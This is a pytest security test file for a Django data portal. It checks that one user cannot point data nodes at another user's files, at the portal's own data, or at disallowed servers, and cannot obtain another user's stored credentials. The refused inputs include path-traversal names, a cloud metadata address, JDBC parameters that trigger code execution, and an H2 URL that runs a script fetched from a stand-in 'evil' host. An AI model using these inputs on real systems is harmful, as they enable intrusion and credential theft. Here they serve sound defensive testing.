"""Mallory makes data nodes of her own now: every URL and path trick is first-class.

Her node cannot point at another user's area (by name, by absolute path, through a symlink in
her own area, through a user or group name that is not a plain folder), at the portal's own
files or database, at a database server outside the administrators' policy, nor carry the
driver parameters that make a JDBC driver run code or read the portal's files. Victor's node
keeps its credentials from her — she neither sees them nor may copy them into a node of hers —
and she cannot use it (save, compile, Test connection, the worker) until he grants it; a grant
lets her, and still shows her no credential."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.contrib.auth.models import Group
from django.db import connection
from django.test import Client

from portal.flows.compiler import compile_flow
from portal.flows.models import FlowConfig
from portal.orchestration.control.jobspecs import build_jobspec
from portal.orchestration.models import FlowExecution
from portal.pipeline.usernode import REFUSED
from portal.topology import services as topology
from portal.topology import sharing
from portal.topology.models import DataNode, SpecExecutor
from tests.builders.world import World
from tests.factories import UserFactory

VICTORS_PASSWORD = "victors-own-db-password"


@pytest.fixture
def areas(world: World, settings) -> Path:
    """The users' areas under a data folder of the test's own; victor keeps a file in his."""
    data = world.tmp / "data"
    (data / "users" / "victor" / "orders").mkdir(parents=True)
    (data / "users" / "victor" / "orders" / "part-1.csv").write_text("id,amount\n1,10\n")
    (data / "users" / "mallory").mkdir(parents=True)
    settings.FLOWPORT_DATA_DIR = data
    executor = SpecExecutor.objects.get(name="x1")
    topology.update_executor(executor, {"user_sources": "files,jdbc", "user_destinations": "files"})
    return data


def post_node(world: World, user=None, **body):
    return world.api(user).post("/api/datanodes", body, format="json")


def refused_property(response, key: str) -> str:
    assert response.status_code == 400, response.content
    found = [m for m in response.json().get("properties", []) if m.startswith(f"{key}: ")]
    assert found, response.json()
    return found[0]


# --- where her node may point ----------------------------------------------------------------


@pytest.mark.parametrize("path", ["users/victor", "users/victor/orders", "users", "."])
def test_her_folder_node_cannot_point_at_another_users_area(world: World, areas, path):
    answer = post_node(world, name="grab", kind="files", properties={"path": path})
    assert "outside your areas" in refused_property(answer, "path")
    absolute = post_node(
        world, name="grab", kind="files", properties={"path": str(areas / "users" / "victor")}
    )
    assert "outside your areas" in refused_property(absolute, "path")
    assert not DataNode.objects.filter(name="grab").exists()


def test_a_symlink_in_her_own_area_does_not_lead_into_victors(world: World, areas):
    os.symlink(areas / "users" / "victor", areas / "users" / "mallory" / "shortcut")
    answer = post_node(world, name="grab", kind="files", properties={"path": "users/mallory/shortcut"})
    assert "outside your areas" in refused_property(answer, "path")


def test_a_user_or_group_whose_name_is_no_plain_folder_gets_no_area(world: World, areas):
    dots = UserFactory(username="..")
    answer = post_node(world, dots, name="everyone", kind="files", properties={"path": "users"})
    assert "outside your areas" in refused_property(answer, "path")
    sneaky = Group.objects.create(name="../users/victor")
    world.mallory.groups.add(sneaky)
    answer = post_node(world, name="grab", kind="files", properties={"path": "users/victor"})
    assert "outside your areas" in refused_property(answer, "path")


@pytest.mark.parametrize(
    "where",
    [
        lambda w: str(django_settings.VAR_DIR),
        lambda w: str(w.master_key.parent),
        lambda w: str(django_settings.FLOWPORT_WORK_DIR),
        lambda w: "/etc",
        lambda w: "file:///etc",
    ],
    ids=["state folder", "master key folder", "work area", "etc", "file uri"],
)
def test_her_folder_node_cannot_point_at_the_portals_files(world: World, areas, where):
    answer = post_node(world, name="grab", kind="files", properties={"path": where(world)})
    assert answer.status_code == 400 and "path: " in str(answer.json()["properties"])


@pytest.mark.parametrize(
    ("url", "words"),
    [
        ("jdbc:postgresql://10.0.0.5:5432/hr", "10.0.0.5:5432 is not a database server"),
        ("jdbc:postgresql://169.254.169.254:80/x", "169.254.169.254:80 is not a database server"),
        ("jdbc:postgresql://127.0.0.1:6379/redis", "127.0.0.1:6379 is not a database server"),
        ("jdbc:postgresql://127.0.0.1:5432/x?PGHOST=10.0.0.5", "'PGHOST' is not one"),
        ("jdbc:postgresql://127.0.0.1:5432/x?host=10.0.0.5", "'host' is not one"),
        ("jdbc:postgresql://127.0.0.1:5432/x?loggerFile=/tmp/x&loggerLevel=DEBUG", "'loggerFile' is not one"),
        ("jdbc:postgresql://127.0.0.1:5432/x?sslfactory=evil.Factory", "'sslfactory' is not one"),
        ("jdbc:postgresql://127.0.0.1:5432/x?socketFactory=a.B", "'socketFactory' is not one"),
        ("jdbc:postgresql://127.0.0.1:5432/x?%73ocketFactory=a.B", "'%73ocketFactory' is not one"),
        ("jdbc:postgresql://127.0.0.1:5432/x?service=portal", "'service' is not one"),
        # Spark's driver would log in as the URL's user, the portal's checks as the node's
        ("jdbc:postgresql://127.0.0.1:5432/x?user=postgres", "'user' is not one"),
        ("jdbc:postgresql://127.0.0.1:5432/x?applicationName=a&USER=postgres", "'USER' is not one"),
        ("jdbc:mariadb://127.0.0.1:3306/x?user=root", "'user' is not one"),
        ("jdbc:mysql://127.0.0.1:3306/x?password=p", "'password' is not one"),
        ("jdbc:mysql://127.0.0.1:3306/x?allowLoadLocalInfile=true", "'allowLoadLocalInfile' is not one"),
        ("jdbc:mysql://127.0.0.1:3306/x?autoDeserialize=true", "'autoDeserialize' is not one"),
        ("jdbc:mysql://127.0.0.1:3306/x?queryInterceptors=evil.I", "'queryInterceptors' is not one"),
        ("jdbc:mysql://(host=10.0.0.5,port=3306)/x", "one host and a database"),
        ("jdbc:postgresql:x", "one host and a database"),
        ("jdbc:postgresql://127.0.0.1:5432,10.0.0.5:5432/x", "one host and a database"),
        ("jdbc:sqlite:/var/lib/flowport/db.sqlite3", "one host and a database"),
        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/'", "one host and a database"),
    ],
)
def test_her_database_node_reaches_only_the_servers_the_policy_names(world: World, areas, url, words):
    answer = post_node(world, name="grab", kind="jdbc", properties={"url": url})
    assert words in refused_property(answer, "url")


@pytest.mark.postgres  # the portal's PostgreSQL database on an allowed server
def test_the_portals_own_database_is_refused_though_its_server_is_allowed(world: World, areas):
    own = connection.settings_dict
    url = f"jdbc:postgresql://127.0.0.1:{own['PORT'] or 5432}/{own['NAME']}"
    answer = post_node(world, name="grab", kind="jdbc", properties={"url": url})
    assert refused_property(answer, "url") == f"url: {REFUSED}"  # as any database not hers (issue #46)


def test_a_driver_class_of_her_choosing_is_refused(world: World, areas):
    answer = post_node(
        world,
        name="grab",
        kind="jdbc",
        properties={"url": "jdbc:postgresql://127.0.0.1:5432/mallory_db", "driver": "org.h2.Driver"},
    )
    assert "its database's own driver" in refused_property(answer, "driver")


def test_she_cannot_turn_a_node_of_hers_into_one_outside_the_policy(world: World, areas):
    assert (
        post_node(world, name="mine", kind="files", properties={"path": "users/mallory/in"}).status_code
        == 201
    )
    moved = world.api().patch("/api/datanodes/mine", {"properties": {"path": "users/victor"}}, format="json")
    assert "outside your areas" in refused_property(moved, "path")
    kind = world.api().patch(
        "/api/datanodes/mine",
        {"kind": "kafka", "properties": {"bootstrap.servers": "10.0.0.5:9092"}},
        format="json",
    )
    assert kind.status_code == 400 and "kind" in kind.json()
    assert DataNode.objects.get(name="mine").properties == {"path": "users/mallory/in"}


def test_she_cannot_route_her_node_by_a_capability_nor_change_the_administrators_nodes(world: World, areas):
    post_node(world, name="mine", kind="files", properties={"path": "users/mallory/in"})
    staff_only = world.api().patch(
        "/api/topologies/x1", {"capabilities": [{"source": "mine", "destination": "lake"}]}, format="json"
    )
    assert staff_only.status_code == 403
    assert (
        world.api().patch("/api/datanodes/lake", {"properties": {"path": "/"}}, format="json").status_code
        == 403
    )


# --- victor's node: his credentials, his to grant ----------------------------------------------


@pytest.fixture
def victors_nodes(world: World, areas):
    victor_api = world.api(world.victor)
    made = victor_api.post(
        "/api/datanodes",
        {
            "name": "victor-db",
            "kind": "jdbc",
            "properties": {"url": "jdbc:postgresql://127.0.0.1:5432/victor_sales", "user": "victor"},
            "secrets": {"password": VICTORS_PASSWORD},
        },
        format="json",
    )
    assert made.status_code == 201, made.content
    files = victor_api.post(
        "/api/datanodes",
        {"name": "victor-in", "kind": "files", "properties": {"path": "users/victor/orders"}},
        format="json",
    )
    assert files.status_code == 201, files.content
    return DataNode.objects.get(name="victor-db"), DataNode.objects.get(name="victor-in")


def everything_she_reads(world: World) -> str:
    api = world.api()
    seen = [
        api.get("/api/datanodes").content.decode(),
        api.get("/api/datanodes/victor-db").content.decode(),
        api.get("/api/datanodes/victor-db/history").content.decode(),
    ]
    browser = Client()
    browser.force_login(world.mallory)
    seen += [browser.get(url).content.decode() for url in ("/topology/", "/topology/datanodes/victor-db/")]
    return "\n".join(seen)


def test_she_sees_whose_node_it_is_but_never_its_credentials(world: World, victors_nodes):
    stored = victors_nodes[0].properties
    seen = everything_she_reads(world)
    assert "victor" in seen  # the page names its owner, so she can ask him
    for secret in (VICTORS_PASSWORD, stored["password"], stored["encrypt.wrapped.key"]):
        assert secret not in seen
    assert world.api().get("/api/datanodes/victor-db").json()["properties"]["password"] == "ENC(…)"


def test_she_cannot_copy_his_sealed_password_into_a_node_pointing_where_she_likes(
    world: World, victors_nodes
):
    """Say a backup leaked the ciphertext: in a node of hers the worker would decrypt it and send
    it to her server. It is bound to victor, and the key is not hers."""
    stored = victors_nodes[0].properties
    answer = post_node(
        world,
        name="trap",
        kind="jdbc",
        properties={
            "url": "jdbc:postgresql://localhost:5432/mallory_listener",
            "password": stored["password"],
            "encrypt.wrapped.key": stored["encrypt.wrapped.key"],
        },
    )
    assert "bound to another owner" in refused_property(answer, "password")
    assert "not one of your or your groups' customer keys" in str(answer.json()["properties"])
    assert not DataNode.objects.filter(name="trap").exists()


def test_she_cannot_use_his_node_until_he_grants_it_and_then_she_can(world: World, victors_nodes):
    body = {
        "flowGroup": "mal",
        "flowName": "copy",
        "source": "victor-in",
        "destinations": ["lake"],
        "properties": {"source.files.format": "csv"},
    }
    refused = world.api().post("/api/flowconfigs", body, format="json")
    assert refused.status_code == 400
    assert "'mallory' may not read from data node 'victor-in'" in refused.content.decode()
    assert "ask its owners for a read grant: victor" in refused.content.decode()
    for action in ("test", "discover"):
        assert world.api().post(f"/api/datanodes/victor-db/{action}", {}, format="json").status_code == 403
    asked = world.api().post("/api/datanodes/victor-in/access-requests", {"role": "read"}, format="json")
    assert asked.status_code == 201
    decided = world.api(world.victor).post(
        f"/api/datanodes/victor-in/access-requests/{asked.json()['id']}", {"decision": "grant"}, format="json"
    )
    assert decided.status_code == 200
    saved = world.api().post("/api/flowconfigs", body, format="json")
    assert saved.status_code == 201, saved.content
    flow = FlowConfig.objects.get(flow_group="mal", flow_name="copy")
    assert flow.compilation_status == "COMPILED", flow.compilation_message
    assert world.api().get("/api/datanodes/victor-in").json()["owners"] == ["victor"]  # read, not owner


def test_a_job_bound_while_she_was_granted_is_refused_by_the_worker_once_he_revokes(
    world: World, victors_nodes
):
    node = victors_nodes[1]
    sharing.grant(node, user=world.victor, role="read", principal={"user": "mallory"})
    flow = FlowConfig.objects.create(
        flow_group="mal",
        flow_name="copy",
        owner=world.mallory,
        source="victor-in",
        destinations=["lake"],
        properties={"source.files.format": "csv", "writer.output.format": "csv"},
    )
    compiled = compile_flow(flow).to_dict()
    assert compiled["status"] == "COMPILED", compiled["message"]
    plan = compiled["jobs"][0]
    execution = FlowExecution.objects.create(
        flow=flow,
        flow_group="mal",
        flow_name="copy",
        execution_id=1,
        trigger=FlowExecution.Trigger.RUN_NOW,
    )
    spec = build_jobspec(execution, plan, {plan["jobName"]: plan})
    grant = node.grants.get(role="read", user=world.mallory)
    sharing.revoke(node, grant.pk, user=world.victor)
    job = world.run_on_worker(spec, execution)
    assert job.status == "FAILED"
    assert "Refused by the worker's security check" in job.message
    assert "'mallory' may not read from data node 'victor-in'" in job.message
    assert not (world.lake / "mal").exists()


def test_she_cannot_share_or_delete_his_node_nor_answer_requests_for_it(world: World, victors_nodes):
    api = world.api()
    acl = [{"role": "owner", "user": "mallory"}]
    assert api.patch("/api/datanodes/victor-db", {"acl": acl}, format="json").status_code == 403
    assert api.delete("/api/datanodes/victor-db").status_code == 403
    browser = Client()
    browser.force_login(world.mallory)
    granted = browser.post(
        "/topology/datanodes/victor-db/grants/",
        {"role": "read", "principal_kind": "user", "principal": "mallory"},
    )
    assert granted.status_code == 403
    asked = sharing.request_access(victors_nodes[0], user=world.mallory)
    answer = api.post(
        f"/api/datanodes/victor-db/access-requests/{asked.pk}", {"decision": "grant"}, format="json"
    )
    assert answer.status_code == 403
    assert list(victors_nodes[0].grants.values_list("role", "user__username")) == [("owner", "victor")]
